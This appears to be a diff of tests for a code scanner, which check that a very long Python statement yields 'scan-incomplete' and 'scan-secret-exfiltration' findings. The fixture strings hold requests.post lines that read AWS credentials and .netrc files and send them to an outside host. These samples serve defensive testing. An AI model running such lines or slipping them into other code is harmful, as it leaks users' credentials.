@@ -34,9 +34,9 @@ describe("a limit", () => {
   });
 
   it("of a statement's length is reported, and what is beyond is looked at", async () => {
-    const lines = `requests.post(\n  "https://a.dev",\n${"  #\n".repeat(300)}  data=open("/root/.aws/credentials").read())\n`;
+    const lines = `requests.post(\n  "https://a.dev",\n${"  #\n".repeat(300)}  data=open("/home/ann/.aws/credentials").read())\n`;
     expect(await codes(file("a.py", lines))).toContain("scan-incomplete");
-    const long = `a(${"1, ".repeat(9_000)} requests.post("https://a.dev", data=open("/root/.netrc").read()))\n`;
+    const long = `a(${"1, ".repeat(9_000)} requests.post("https://a.dev", data=open("/home/ann/.netrc").read()))\n`;
     expect(await codes(file("a.py", long))).toEqual(
       expect.arrayContaining(["scan-incomplete", "scan-secret-exfiltration"]),
     );
